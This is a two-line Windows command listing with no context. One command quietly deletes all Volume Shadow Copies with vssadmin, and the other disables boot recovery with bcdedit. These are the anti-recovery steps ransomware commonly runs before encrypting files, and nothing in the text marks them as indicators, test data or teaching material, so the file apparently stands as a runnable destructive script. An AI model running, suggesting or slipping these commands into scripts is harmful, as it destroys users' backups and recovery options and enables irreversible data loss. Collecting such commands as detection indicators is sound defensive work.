vssadmin.exe delete shadows /all /quiet
bcdedit /set {default} recoveryenabled No
